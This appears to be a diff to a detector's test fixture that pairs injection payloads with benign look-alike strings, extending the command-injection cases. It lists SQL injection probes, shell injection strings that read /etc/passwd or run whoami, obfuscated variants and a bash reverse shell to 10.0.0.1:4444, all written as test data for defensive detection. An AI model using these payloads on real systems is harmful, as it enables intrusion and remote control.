@@ -71,8 +71,9 @@ EXAMPLES: dict[str, tuple[list[str], list[str]]] = {
     "sqli-110": (["extractvalue(1,concat(0x7e,version()))", "updatexml(1,concat(0x7e,user()),1)"],
                  ["extract value from data", "update xml files"]),
     # command injection decided on shell tokens (detector "shell")
-    "cmdi-101": (["127.0.0.1; cat /etc/passwd", "x|id", "a && whoami"],
-                 ["run `npm test` && deploy", "rock; paper; scissors"]),
+    "cmdi-101": (["127.0.0.1; cat /etc/passwd", "x|id", "a && whoami", "1|id|x", "| sleep 5 | x |"],
+                 ["run `npm test` && deploy", "rock; paper; scissors", "| id | name |\n|----|------|",
+                  "int | set | none"]),
     "cmdi-102": (["$(whoami)", "`id`", "x$(cat /etc/passwd)"], ["costs $(5)", "use the `id` field"]),
     "cmdi-103": (["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], ["a > b", "see tcp/ip docs"]),
     "cmdi-104": (["w'h'o'am'i", "/???/c?t /e??/p?ss??", "{cat,/etc/passwd}", "x;**whoami**"],
